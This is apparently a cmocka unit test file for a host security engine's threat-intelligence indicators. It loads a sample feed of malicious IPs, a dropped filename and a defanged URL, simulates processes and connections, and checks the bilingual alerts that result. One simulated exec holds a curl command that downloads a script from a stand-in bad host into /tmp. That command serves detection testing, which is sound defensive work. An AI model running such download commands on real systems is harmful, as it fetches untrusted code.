/* Indicators in the engine: sets of a rules folder, and the alerts that hits become. */
#include "rig.h"
#include "agent/engine/intel.h"
#include "detect/indicator/indicator.h"
#include <fcntl.h>
#include <ftw.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <sys/stat.h>
#include <cmocka.h>

#define SECOND UINT64_C(1000000000)

static const char feed[] = "type,value,confidence,tlp,label,source,valid_until\n"
                           "ip,198.51.100.7,90,amber,C2 of {X},CERT,\n"
                           "ip,203.0.113.0/24,60,,bad network,CERT,\n"
                           "ip,192.0.2.9,80,,over,CERT,2020-01-02\n"
                           "filename,.cache-update,30,,dropped by Y,CERT,\n"
                           "url,hxxp://bad[.]example/x.sh,50,,,CERT,\n";

struct folder {
    char path[64];
    int fd;
};

static int to_fd(void *ctx, struct hm_slice piece)
{
    return write(*(int *)ctx, piece.p, piece.len) == (ssize_t)piece.len ? 0 : -EIO;
}

static void write_set(struct folder *f, const char *name, enum hm_intel_form form)
{
    struct hm_intel_builder *b = hm_intel_builder_new(NULL, 99);
    struct hm_intel_feed how = {.format = HM_INTEL_FORMAT_CSV};
    struct hm_intel_report rep = {0};
    assert_int_equal(hm_intel_import(b, hm_slice_str(feed), &how, 1, NULL, NULL, &rep, NULL), 0);
    assert_int_equal(rep.outcomes[HM_INTEL_LOADED], 5);
    hm_autoclose int fd = openat(f->fd, name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
    assert_true(fd >= 0);
    assert_int_equal(hm_intel_build(b, form, to_fd, &fd, NULL), 0);
    hm_intel_builder_free(b);
}

static struct folder make_folder(void)
{
    struct folder f = {.path = "/tmp/hm-intel-XXXXXX"};
    assert_non_null(mkdtemp(f.path));
    f.fd = open(f.path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    assert_int_equal(mkdirat(f.fd, "intel", 0700), 0);
    return f;
}

static int remove_one(const char *path, const struct stat *st, int type, struct FTW *w)
{
    (void)st, (void)type, (void)w;
    return remove(path);
}

static void drop_folder(struct folder *f)
{
    close(f->fd);
    nftw(f->path, remove_one, 16, FTW_DEPTH | FTW_PHYS);
}

static void count_problem(void *ctx, const char *path, const char *why)
{
    assert_true(strlen(why) > 0);
    assert_true(strncmp(path, "intel", 5) == 0);
    ++*(int *)ctx;
}

static struct hm_intel_sets *sets_of(enum hm_intel_form form)
{
    struct folder f = make_folder();
    struct hm_intel_sets *s = NULL;
    int problems = 0;
    write_set(&f, "intel/site.bin", form);
    assert_int_equal(hm_intel_sets_load(f.fd, count_problem, &problems, &s), 0);
    assert_int_equal(problems, 0);
    assert_int_equal(hm_intel_sets_count(s), 5);
    drop_folder(&f); /* a set in use outlives its file */
    return s;
}

static void shell(struct rig *r)
{
    rig_exec(r, &(struct rig_exec){.pid = 20,
                                   .start_ns = 20,
                                   .boot_ns = 20,
                                   .session = 20,
                                   .uid = 1000,
                                   .path = "/usr/bin/bash",
                                   .args = "-bash"});
}

static void a_listed_address_raises_an_alert_that_says_who_lists_it(void **state)
{
    (void)state;
    for (int form = HM_INTEL_FULL; form <= HM_INTEL_COMPACT; form++) {
        struct hm_intel_sets *s = sets_of((enum hm_intel_form)form);
        struct rig *r = rig_new(&(struct rig_options){.intel = s});
        shell(r);
        rig_connect(r, 20, 20, SECOND, (const uint8_t[]){198, 51, 100, 8}, 443, 0);
        rig_connect(r, 20, 20, SECOND, (const uint8_t[]){192, 0, 2, 9}, 443, 0); /* expired */
        rig_connect(r, 20, 20, 2 * SECOND, (const uint8_t[]){198, 51, 100, 7}, 443, 0);
        rig_connect(r, 20, 20, 3 * SECOND, (const uint8_t[]){198, 51, 100, 7}, 443, 0); /* quiet */
        rig_connect(r, 20, 20, 4 * SECOND, (const uint8_t[]){203, 0, 113, 77}, 443, 0);
        rig_read(r);
        assert_int_equal(rig_count(r, HM_ACTION_FINDING_ALERT), 2);
        const struct hm_event *a = rig_find(r, HM_ACTION_FINDING_ALERT, 0);
        rig_assert_text(a, HM_F_RULE_ID, "intel:ip:198.51.100.7");
        rig_assert_text(a, HM_F_RULE_TITLE, "Known indicator: ip 198.51.100.7");
        rig_assert_text(a, HM_F_RULE_TITLE_JA, "既知の脅威指標に一致: ip 198.51.100.7");
        rig_assert_text(a, HM_F_ALERT_REASON,
                        "/usr/bin/bash used an address that is listed as malicious: ip "
                        "198.51.100.7. Source: CERT, which calls it: C2 of {X}. Confidence 90 of "
                        "100, TLP:amber.");
        rig_assert_text(a, HM_F_ALERT_REASON_JA,
                        "/usr/bin/bash が、悪性と報告されている接続先を使いました: ip "
                        "198.51.100.7。情報源: CERT、内容: C2 of {X}。確度 90/100、TLP:amber。");
        assert_int_equal(hm_event_u64(a, HM_F_ALERT_SEVERITY), 4);
        assert_false(hm_event_has(a, HM_F_ALERT_TECHNIQUES));
        rig_assert_text(a, HM_F_PROCESS_IMAGE, "/usr/bin/bash");
        a = rig_find(r, HM_ACTION_FINDING_ALERT, 1);
        rig_assert_text(a, HM_F_RULE_ID, "intel:ip:203.0.113.0/24");
        assert_int_equal(hm_event_u64(a, HM_F_ALERT_SEVERITY), 3);
        assert_non_null(memmem(rig_text(a, HM_F_ALERT_REASON).p, rig_text(a, HM_F_ALERT_REASON).len,
                               "203.0.113.77 (listed as 203.0.113.0/24)", 39));
        rig_free(r);
        hm_intel_sets_free(s);
    }
}

static void names_and_urls_of_a_new_process_are_looked_up(void **state)
{
    (void)state;
    struct hm_intel_sets *s = sets_of(HM_INTEL_FULL);
    struct rig *r = rig_new(&(struct rig_options){.intel = s});
    shell(r);
    rig_exec(r, &(struct rig_exec){.pid = 30,
                                   .ppid = 20,
                                   .parent_start_ns = 20,
                                   .start_ns = SECOND,
                                   .boot_ns = SECOND,
                                   .path = "/tmp/.cache-update",
                                   .args = "/tmp/.cache-update"});
    rig_exec(r, &(struct rig_exec){.pid = 31,
                                   .ppid = 20,
                                   .parent_start_ns = 20,
                                   .start_ns = 2 * SECOND,
                                   .boot_ns = 2 * SECOND,
                                   .path = "/usr/bin/curl",
                                   .args = "curl -fs 'https://BAD.example/x.sh?host=a' -o /tmp/x"});
    rig_read(r);
    assert_int_equal(rig_count(r, HM_ACTION_FINDING_ALERT), 2);
    const struct hm_event *a = rig_find(r, HM_ACTION_FINDING_ALERT, 0);
    rig_assert_text(a, HM_F_RULE_ID, "intel:name:.cache-update");
    assert_int_equal(hm_event_u64(a, HM_F_ALERT_SEVERITY), 2);
    rig_assert_text(rig_find(r, HM_ACTION_FINDING_ALERT, 1), HM_F_RULE_ID,
                    "intel:url:bad.example/x.sh");
    rig_free(r);
    hm_intel_sets_free(s);
}

static void a_damaged_set_is_told_and_the_others_work(void **state)
{
    (void)state;
    struct folder f = make_folder();
    struct hm_intel_sets *s = NULL;
    int problems = 0;
    write_set(&f, "intel/a.bin", HM_INTEL_FULL);
    write_set(&f, "intel/b.bin", HM_INTEL_COMPACT);
    hm_autoclose int fd = openat(f.fd, "intel/a.bin", O_RDWR | O_CLOEXEC);
    assert_int_equal(pwrite(fd, "x", 1, 400), 1);
    assert_int_equal(symlinkat("b.bin", f.fd, "intel/c.bin"), 0);
    assert_int_equal(hm_intel_sets_load(f.fd, count_problem, &problems, &s), 0);
    assert_int_equal(problems, 2); /* the damaged one and the link */
    assert_int_equal(hm_intel_sets_count(s), 5);
    hm_intel_sets_free(s);
    drop_folder(&f);
}

static void a_folder_without_sets_is_no_problem(void **state)
{
    (void)state;
    struct folder f = make_folder();
    struct hm_intel_sets *s = NULL;
    int problems = 0;
    assert_int_equal(unlinkat(f.fd, "intel", AT_REMOVEDIR), 0);
    assert_int_equal(hm_intel_sets_load(f.fd, count_problem, &problems, &s), 0);
    assert_int_equal(problems, 0);
    assert_int_equal(hm_intel_sets_count(s), 0);
    hm_intel_sets_free(s);
    drop_folder(&f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_listed_address_raises_an_alert_that_says_who_lists_it),
        cmocka_unit_test(names_and_urls_of_a_new_process_are_looked_up),
        cmocka_unit_test(a_damaged_set_is_told_and_the_others_work),
        cmocka_unit_test(a_folder_without_sets_is_no_problem),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
